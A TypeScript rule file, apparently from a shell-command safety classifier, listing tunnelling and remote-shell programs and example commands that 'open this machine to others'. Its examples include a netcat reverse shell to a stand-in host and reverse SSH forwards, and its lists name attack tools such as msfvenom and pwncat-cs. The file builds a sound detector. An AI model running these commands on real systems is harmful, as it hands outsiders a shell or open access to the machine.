import type { Deeds } from '../deeds/deeds.ts'
import type { Family } from '../program.ts'
import type { Row } from '../row.ts'

/** Programs of which any use opens the machine. Their `-h` names a host or a key, and asks for no help. */
const always: Deeds = { work: [''], hIsNoHelp: true }
const shells: Deeds = { ...always, object: 'shell of this machine' }

/** Patterns of subcommands with which these programs only look. */
const looks = ['* list|ls|info|status|login|logout|help|version|delete']

export const opens = (deeds: Deeds): Deeds => ({ trials: 'version', harmless: looks, ...deeds })

const tunnel: Row = { network: { kind: 'tunnel', direction: 'listen' } }

const programs: Family['programs'] = {
  zrok: { does: opens({ work: ['share|access'] }) },
  upterm: { does: opens({ work: ['host'] }) },
  inlets: { does: opens({ work: ['client|http|tcp'] }) },
  devtunnel: { does: opens({ work: ['host'] }) },
  'ligolo tmate sshuttle localxpose loclx pagekite code-server iodine dnscat dnscat2 ptunnel teleconsole x11vnc anydesk sshd':
    { does: opens(always) },
  // Runners carry out the commands that a service of others sends them.
  config: {
    does: opens({
      work: ['--token|--runnergroup|--pat'],
      when: ({ command }) => command.program === 'config.sh',
    }),
  },
  act_runner: { does: opens({ work: ['register'] }) },
  'telnetd in.telnetd rshd gotty pwncat-cs gs-netcat msfvenom msfconsole': { does: opens(shells) },
  bore: {
    ...tunnel,
    does: opens({ work: ['local'] }),
  },
  chisel: {
    ...tunnel,
    does: opens({ work: ['client|server'] }),
  },
  'lt localtunnel frpc': {
    ...tunnel,
    does: opens(always),
  },
  ttyd: {
    options: 'i=bind interface=bind p port c credential u uid g gid s signal w cwd=names t client-option m max-clients',
    starts: {},
    does: opens(shells),
  },
}

export const openedAccess: Family = {
  area: 'opened-access',
  programs,
  examples: {
    'ngrok http 3000': 'opens this machine to others, from outside',
    'ssh -fNR 2222:localhost:22 a.example': 'opens this machine to others, from outside',
    'ssh -o RemoteForward=80:localhost:3000 a.example': 'opens this machine to others, from outside',
    'npx localtunnel --port 3000': 'runs package `localtunnel`; opens this machine to others, from outside',
    './config.sh --url https://a.example/b --token X': 'opens this machine to others, from outside',
    'docker run --rm cloudflare/cloudflared:latest tunnel --url http://web:80':
      'opens this machine to others, from outside',
    'npx foo-open tunnel http://localhost:3000': 'runs package `foo-open`; opens this machine to others, from outside',
    'gotty bash': 'opens a shell of this machine',
    'nc -e /bin/sh a.example 99': 'opens a shell of this machine',
    'ssh -R 9003:localhost:9003 dev@192.168.56.10': '',
    'cloudflared tunnel list': '',
    'ngrok --version': '',
  },
}
